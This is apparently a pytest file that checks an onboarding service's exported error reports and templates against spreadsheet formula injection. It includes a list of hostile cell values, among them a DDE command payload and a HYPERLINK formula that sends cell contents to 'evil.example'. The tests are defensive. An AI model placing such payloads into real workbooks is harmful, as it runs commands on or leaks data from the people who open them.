"""What somebody wrote into a cell is text in every workbook that leaves the house."""

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from services.onboarding.models import ImportLine
from services.onboarding.report import wrong_workbook
from services.onboarding.sheets.specs import SPECS
from services.onboarding.sheets.template import template_workbook

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1;"x")',
    "+359 88 123",
    "-5.2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "%0A=1",
    "\x0b\x07\x00=1",
    "\ufffe",
    "<f>1</f>",
]


def formulas(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets")]
        return [name for name in sheets if re.search(rb"<f[ >]", archive.read(name))]


def test_the_report_of_wrong_lines_holds_no_formula():
    remarks = [{"bad": True, "cell": "=A1", "text": "=1+1"}]
    content = wrong_workbook(HOSTILE, [ImportLine(cells=HOSTILE, remarks=remarks)])
    assert formulas(content) == []
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows())
    assert {cell.data_type for row in rows for cell in row} <= {"s", "inlineStr"}
    assert [rows[1][index].value for index in (0, 2, 3)] == [HOSTILE[0], "+359 88 123", "-5.2"]


@pytest.mark.parametrize("kind", SPECS)
def test_templates_hold_no_formula_in_a_cell(kind):
    assert formulas(template_workbook(kind)) == []
